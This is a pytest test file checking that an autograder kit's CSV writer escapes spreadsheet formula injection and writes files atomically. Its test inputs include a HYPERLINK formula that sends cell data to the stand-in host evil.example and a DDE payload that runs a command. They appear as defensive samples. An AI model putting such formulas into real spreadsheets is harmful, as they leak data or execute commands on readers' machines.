"""Do the kit's CSV files keep spreadsheet formulas out (OWASP "CSV Injection")?"""

import csv
import os

import pytest

from autograder.csvsafe import safe_cell, unsafe_cell, write_csv


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+41",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\n=1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ],
)
def test_formula_starts_get_a_single_quote(text):
    """Does every cell beginning with = + - @ tab CR (or LF) come out as
    text behind a single quote?"""
    assert safe_cell(text) == "'" + text
    assert unsafe_cell(safe_cell(text)) == text


def test_ordinary_cells_and_numbers_are_unchanged():
    """Are plain text, a quote in the middle, computed numbers and None written as they are?"""
    assert safe_cell("alice") == "alice"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("'quoted") == "'quoted"
    assert safe_cell(-0.5) == "-0.5"
    assert safe_cell(3) == "3"
    assert safe_cell(None) == ""
    assert safe_cell(float("nan")) == ""


def test_write_csv_is_atomic_utf8_and_safe(tmp_path):
    """Does write_csv replace the file whole, in UTF-8, with every cell
    neutralised and nothing left over?"""
    path = tmp_path / "out" / "t.csv"
    write_csv(path, ["name", "msg"], [["old", "old"]])
    write_csv(path, ["name", "msg"], [["Zoë", "=cmd|' /C calc'!A0"], ["-victor", 'say "hi", ok']])
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows == [["name", "msg"], ["Zoë", "'=cmd|' /C calc'!A0"], ["'-victor", 'say "hi", ok']]
    assert os.listdir(path.parent) == ["t.csv"]


def test_a_failed_write_leaves_the_old_file(tmp_path):
    """Does an error while writing keep the previous file intact and leave no temporary file?"""
    path = tmp_path / "t.csv"
    write_csv(path, ["a"], [["1"]])

    def rows():
        yield ["2"]
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(path, ["a"], rows())
    assert path.read_bytes() == b"a\r\n1\r\n"
    assert os.listdir(tmp_path) == ["t.csv"]
